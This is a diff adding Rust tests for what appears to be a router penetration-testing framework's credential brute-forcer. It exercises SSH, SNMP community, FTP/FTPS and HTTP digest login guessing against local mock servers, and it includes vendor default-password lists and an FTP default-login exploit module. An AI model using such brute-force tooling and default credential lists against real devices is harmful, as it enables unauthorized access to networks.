+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::sync::atomic::AtomicUsize;
+
+    /// Accepts `valid` pairs and records how many attempts ran at once
+    struct MockTester {
+        valid: Vec<(&'static str, &'static str)>,
+        attempts: AtomicUsize,
+        in_flight: AtomicUsize,
+        max_in_flight: AtomicUsize,
+    }
+
+    impl MockTester {
+        fn new(valid: Vec<(&'static str, &'static str)>) -> Arc<Self> {
+            Arc::new(Self {
+                valid,
+                attempts: AtomicUsize::new(0),
+                in_flight: AtomicUsize::new(0),
+                max_in_flight: AtomicUsize::new(0),
+            })
+        }
+    }
+
+    #[async_trait]
+    impl CredentialTester for MockTester {
+        fn protocol(&self) -> Protocol {
+            Protocol::SSH
+        }
+
+        async fn try_login(&self, _target: &Target, username: &str, password: &str) -> Result<bool> {
+            self.attempts.fetch_add(1, Ordering::SeqCst);
+            let now = self.in_flight.fetch_add(1, Ordering::SeqCst) + 1;
+            self.max_in_flight.fetch_max(now, Ordering::SeqCst);
+            tokio::time::sleep(Duration::from_millis(5)).await;
+            self.in_flight.fetch_sub(1, Ordering::SeqCst);
+            Ok(self.valid.contains(&(username, password)))
+        }
+    }
+
+    fn wordlist() -> Vec<(String, String)> {
+        parse_wordlist(
+            "# vendor defaults\n\
+             root:root\nadmin:1234\nuser:user\nadmin:admin\n\n\
+             support:support\nguest:guest\nroot:toor\nadmin:password\n",
+        )
+    }
+
+    #[tokio::test]
+    async fn test_bruteforce_stops_on_first_success() {
+        let tester = MockTester::new(vec![("admin", "admin"), ("root", "toor")]);
+        let config = BruteforceConfig { threads: 1, timeout: 5, stop_on_success: true };
+
+        let findings = bruteforce(tester.clone(), &Target::new("192.168.1.1"), wordlist(), &config)
+            .await
+            .unwrap();
+
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].username, "admin");
+        assert_eq!(findings[0].password, "admin");
+        assert!(findings[0].verified);
+        // Nothing after the fourth pair was tried
+        assert_eq!(tester.attempts.load(Ordering::SeqCst), 4);
+    }
+
+    #[tokio::test]
+    async fn test_import_defaults_csv() {
+        let _db = crate::db::redb_client::test_support::init_database().await.unwrap();
+
+        let csv = "vendor,device,username,password\n\
+                   D-Link,DIR-300,admin,\n\
+                   D-Link,DIR-615,admin,admin\n\
+                   Netgear,R7000,admin,password\n\
+                   \"TP-Link\",\"Archer C7, v2\",admin,\"a\"\"b\"\n";
+        assert_eq!(import_defaults_csv(csv).unwrap(), 4);
+
+        let dlink = creds::list_by_vendor("d-link").unwrap();
+        assert_eq!(dlink.len(), 2);
+        assert!(dlink.iter().any(|c| c.device == "DIR-300" && c.password.is_empty()));
+
+        let tplink = creds::list_by_vendor("TP-Link").unwrap();
+        assert_eq!(tplink[0].device, "Archer C7, v2");
+        assert_eq!(tplink[0].password, "a\"b");
+
+        assert_eq!(
+            default_pairs("D-Link").unwrap(),
+            vec![("admin".to_string(), String::new()), ("admin".to_string(), "admin".to_string())]
+        );
+        assert!(parse_defaults_csv("D-Link,DIR-300,admin\n").is_err());
+    }
+
+    #[tokio::test]
+    async fn test_bruteforce_continues_when_configured() {
+        let tester = MockTester::new(vec![("admin", "admin"), ("root", "toor")]);
+        let config = BruteforceConfig { threads: 3, timeout: 5, stop_on_success: false };
+
+        let findings = bruteforce(tester.clone(), &Target::new("192.168.1.1"), wordlist(), &config)
+            .await
+            .unwrap();
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(tester.attempts.load(Ordering::SeqCst), 8);
+        assert!(tester.max_in_flight.load(Ordering::SeqCst) <= 3);
+    }
+
+    #[tokio::test]
+    async fn test_snmp_communities() {
+        use snmp::{SnmpVersion, encode_get_request, is_response_to};
+
+        // Answers `private` over v1 and `public` over v2c, echoing the request
+        // back as a GetResponse
+        let agent = tokio::net::UdpSocket::bind("127.0.0.1:0").await.unwrap();
+        let port = agent.local_addr().unwrap().port();
+        tokio::spawn(async move {
+            let mut buf = [0u8; 1500];
+            loop {
+                let (len, peer) = agent.recv_from(&mut buf).await.unwrap();
+                let mut reply = buf[..len].to_vec();
+                // Short-form lengths throughout: 30 L 02 01 <version> 04 <n> <community> a0 ...
+                let end = 7 + reply[6] as usize;
+                let accepted = matches!((reply[4], &reply[7..end]), (0, b"private") | (1, b"public"));
+                if accepted {
+                    reply[end] = 0xa2;
+                    agent.send_to(&reply, peer).await.unwrap();
+                }
+            }
+        });
+
+        let config = BruteforceConfig { threads: 4, timeout: 1, stop_on_success: true };
+        let target = Target::new("127.0.0.1").with_port(port);
+        let mut found: Vec<String> = snmp::check_communities(&target, &["public", "private", "cisco"], &config)
+            .await
+            .unwrap()
+            .into_iter()
+            .inspect(|f| assert!(matches!(f.protocol, Protocol::SNMP)))
+            .map(|f| f.password)
+            .collect();
+        found.sort();
+        assert_eq!(found, vec!["private", "public"]);
+
+        // Hostnames are looked up with the target's resolver
+        let nameserver = crate::core::net::test_support::dns_mock(&[("agent.lab", std::net::Ipv4Addr::LOCALHOST)]).await;
+        let dns = crate::core::net::DnsConfig { nameservers: vec![nameserver], timeout_secs: 2 };
+        let named = Target::new("agent.lab").with_port(port).with_dns(dns);
+        let found = snmp::check_communities(&named, &["public"], &config).await.unwrap();
+        assert_eq!(found.len(), 1);
+
+        // Never sent around a configured proxy
+        let proxied = target.clone().with_proxy(Some(crate::core::net::ProxyConfig::parse("socks5://127.0.0.1:9050").unwrap()));
+        let err = snmp::check_communities(&proxied, &["public"], &config).await.unwrap_err();
+        assert!(err.to_string().contains("can't be sent through the proxy"));
+
+        let request = encode_get_request(SnmpVersion::V2c, "public", 300);
+        assert!(!is_response_to(&request, "public", 300).unwrap());
+        assert!(is_response_to(&request[..3], "public", 300).is_err());
+    }
+
+    /// FTP server where anonymous is read-only and admin:admin may write.
+    /// Returns its port.
+    async fn ftp_mock() -> u16 {
+        use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        tokio::spawn(async move {
+            loop {
+                let (socket, _) = listener.accept().await.unwrap();
+                tokio::spawn(async move {
+                    let (read, mut write) = socket.into_split();
+                    let mut lines = BufReader::new(read).lines();
+                    write.write_all(b"220-Mock FTP\r\n220 Ready\r\n").await.unwrap();
+                    let (mut user, mut session) = (String::new(), None);
+                    while let Ok(Some(line)) = lines.next_line().await {
+                        let (command, arg) = line.split_once(' ').unwrap_or((line.as_str(), ""));
+                        let reply = match command {
+                            "USER" => {
+                                user = arg.to_string();
+                                "331 Password required"
+                            }
+                            "PASS" => {
+                                session = match (user.as_str(), arg) {
+                                    ("anonymous", _) => Some(false),
+                                    ("admin", "admin") => Some(true),
+                                    _ => None,
+                                };
+                                if session.is_some() { "230 Logged in" } else { "530 Login incorrect" }
+                            }
+                            "MKD" if session == Some(true) => "257 Created",
+                            "MKD" => "550 Permission denied",
+                            "RMD" => "250 Removed",
+                            "QUIT" => "221 Bye",
+                            _ => "502 Not implemented",
+                        };
+                        write.write_all(format!("{}\r\n", reply).as_bytes()).await.unwrap();
+                    }
+                });
+            }
+        });
+        port
+    }
+
+    #[tokio::test]
+    async fn test_ftp_logins() {
+        let port = ftp_mock().await;
+        let config = BruteforceConfig { threads: 2, timeout: 5, stop_on_success: false };
+        let pairs = parse_wordlist("admin:1234\nadmin:admin\nroot:root\n");
+        let target = Target::new("127.0.0.1").with_port(port);
+        let mut findings = ftp::check_logins(&target, pairs, ftp::FtpSecurity::Plain, &config).await.unwrap();
+        findings.sort_by(|a, b| a.username.cmp(&b.username));
+
+        assert_eq!(findings.len(), 2);
+        assert_eq!(findings[0].username, "admin");
+        assert_eq!(findings[0].writable, Some(true));
+        assert_eq!(findings[1].username, "anonymous");
+        assert_eq!(findings[1].writable, Some(false));
+        assert!(matches!(findings[1].protocol, Protocol::FTP));
+    }
+
+    #[tokio::test]
+    async fn test_builtin_ftp_default_module() {
+        use crate::core::exploit::registry;
+
+        let _db = crate::db::redb_client::test_support::init_database().await.unwrap();
+        let port = ftp_mock().await;
+        let exploit = registry::create("pyroutersploit_ftp_default").unwrap();
+        assert!(matches!(exploit.metadata().protocol, Protocol::FTP));
+
+        let target = Target::new("127.0.0.1").with_port(port);
+        assert!(exploit.check(&target).await.unwrap());
+        let outcome = exploit.run(&target, &Default::default()).await.unwrap();
+        assert!(outcome.success);
+        assert!(outcome.output.ends_with("for: admin"), "{}", outcome.output);
+    }
+
+    #[tokio::test]
+    async fn test_ftps_follows_target_tls() {
+        use tokio::io::{AsyncBufReadExt, AsyncWriteExt, BufReader};
+
+        // Upgrades with AUTH TLS, then only accepts admin:admin
+        let (acceptor, pem) = crate::core::net::test_support::tls_acceptor();
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        tokio::spawn(async move {
+            loop {
+                let (mut socket, _) = listener.accept().await.unwrap();
+                let acceptor = acceptor.clone();
+                tokio::spawn(async move {
+                    socket.write_all(b"220 Ready\r\n").await.unwrap();
+                    let mut line = String::new();
+                    let mut plain = BufReader::new(socket);
+                    plain.read_line(&mut line).await.unwrap();
+                    assert_eq!(line.trim(), "AUTH TLS");
+                    plain.get_mut().write_all(b"234 Proceed\r\n").await.unwrap();
+                    let Ok(tls) = acceptor.accept(plain.into_inner()).await else {
+                        return;
+                    };
+                    let (read, mut write) = tokio::io::split(tls);
+                    let mut lines = BufReader::new(read).lines();
+                    let mut user = String::new();
+                    while let Ok(Some(line)) = lines.next_line().await {
+                        let (command, arg) = line.split_once(' ').unwrap_or((line.as_str(), ""));
+                        let reply = match command {
+                            "USER" => {
+                                user = arg.to_string();
+                                "331 Password required"
+                            }
+                            "PASS" if user == "admin" && arg == "admin" => "230 Logged in",
+                            "PASS" => "530 Login incorrect",
+                            "PBSZ" | "PROT" => "200 OK",
+                            "QUIT" => "221 Bye",
+                            _ => "550 Permission denied",
+                        };
+                        write.write_all(format!("{}\r\n", reply).as_bytes()).await.unwrap();
+                    }
+                });
+            }
+        });
+
+        let config = &BruteforceConfig { threads: 1, timeout: 5, stop_on_success: false };
+        let target = Target::new("127.0.0.1").with_port(port);
+        let logins = |target: Target| async move {
+            let pairs = vec![("admin".to_string(), "admin".to_string())];
+            ftp::check_logins(&target, pairs, ftp::FtpSecurity::ExplicitTls, config).await.unwrap()
+        };
+
+        // The untrusted certificate is refused by default
+        assert!(logins(target.clone()).await.is_empty());
+        let tls = net::TlsOptions { accept_invalid_certs: true, ..Default::default() };
+        let findings = logins(target.clone().with_tls(tls)).await;
+        assert_eq!(findings.len(), 1);
+        assert!(matches!(findings[0].protocol, Protocol::FTPS));
+
+        // Trusted once its CA is added and the name it was issued for is sent
+        let bundle = std::env::temp_dir().join(format!("pyroutersploit-ftps-ca-{}.pem", uuid::Uuid::new_v4()));
+        std::fs::write(&bundle, pem).unwrap();
+        let tls = net::TlsOptions { ca_bundle: Some(bundle.display().to_string()), sni: Some("device.local".to_string()), ..Default::default() };
+        assert_eq!(logins(target.with_tls(tls)).await.len(), 1);
+        std::fs::remove_file(bundle).unwrap();
+    }
+
+    #[test]
+    fn test_digest_rfc2617_vector() {
+        let challenge = http_auth::parse_challenge(
+            r#"Digest realm="testrealm@host.com", qop="auth,auth-int", nonce="dcd98b7102dd2f0e8b11d0f600bfb0c093", opaque="5ccc069c403ebaf9f0171e9517f40e41""#,
+        )
+        .unwrap();
+        let http_auth::Challenge::Digest { realm, params } = challenge else {
+            panic!("expected a digest challenge");
+        };
+        assert_eq!(realm, "testrealm@host.com");
+        assert_eq!(params["opaque"], "5ccc069c403ebaf9f0171e9517f40e41");
+        assert_eq!(
+            http_auth::digest_response(&params, "GET", "/dir/index.html", "Mufasa", "Circle Of Life", "0a4f113b", 1),
+            "6629fae49393a05397450978507c4ef1"
+        );
+        assert_eq!(
+            http_auth::parse_challenge(r#"Basic realm="DIR-645""#),
+            Some(http_auth::Challenge::Basic { realm: "DIR-645".to_string() })
+        );
+    }
+
+    #[tokio::test]
+    async fn test_http_digest_logins_with_backoff() {
+        use axum::http::{HeaderMap, StatusCode, header};
+        use axum::response::IntoResponse;
+
+        // Requires digest auth for admin:secret and throttles the first request
+        const CHALLENGE: &str = r#"Digest realm="Router", nonce="abc123", qop="auth", algorithm=MD5"#;
+        let authorized = |headers: &HeaderMap| {
+            let Some(http_auth::Challenge::Digest { params: sent, .. }) = headers
+                .get(header::AUTHORIZATION)
+                .and_then(|v| v.to_str().ok())
+                .and_then(http_auth::parse_challenge)
+            else {
+                return false;
+            };
+            let Some(http_auth::Challenge::Digest { params, .. }) = http_auth::parse_challenge(CHALLENGE) else {
+                unreachable!()
+            };
+            let nc = u32::from_str_radix(&sent["nc"], 16).unwrap();
+            sent["username"] == "admin"
+                && sent["response"]
+                    == http_auth::digest_response(&params, "GET", &sent["uri"], "admin", "secret", &sent["cnonce"], nc)
+        };
+
+        let seen = Arc::new(AtomicUsize::new(0));
+        let app = axum::Router::new().route(
+            "/admin",
+            axum::routing::get(move |headers: HeaderMap| async move {
+                if seen.fetch_add(1, Ordering::SeqCst) == 0 {
+                    StatusCode::TOO_MANY_REQUESTS.into_response()
+                } else if authorized(&headers) {
+                    "Welcome".into_response()
+                } else {
+                    (StatusCode::UNAUTHORIZED, [(header::WWW_AUTHENTICATE, CHALLENGE)]).into_response()
+                }
+            }),
+        );
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let port = listener.local_addr().unwrap().port();
+        tokio::spawn(async move { axum::serve(listener, app).await.unwrap() });
+
+        let target = Target::new("127.0.0.1").with_port(port);
+        let mut tester = http_auth::HttpAuthTester::new(&target, "/admin", false).await.unwrap();
+        tester.backoff = Duration::from_millis(50);
+
+        let started = std::time::Instant::now();
+        assert!(!tester.try_login(&target, "admin", "admin").await.unwrap());
+        assert!(started.elapsed() >= Duration::from_millis(50));
+        assert!(tester.try_login(&target, "admin", "secret").await.unwrap());
+        assert_eq!(tester.realm().as_deref(), Some("Router"));
+
+        let config = BruteforceConfig { threads: 2, timeout: 5, stop_on_success: true };
+        let pairs = parse_wordlist("admin:1234\nadmin:secret\n");
+        let findings = http_auth::check_logins(&target, "/admin", false, pairs, &config).await.unwrap();
+        assert_eq!(findings.len(), 1);
+        assert_eq!(findings[0].password, "secret");
+        assert_eq!(findings[0].realm.as_deref(), Some("Router"));
+    }
+}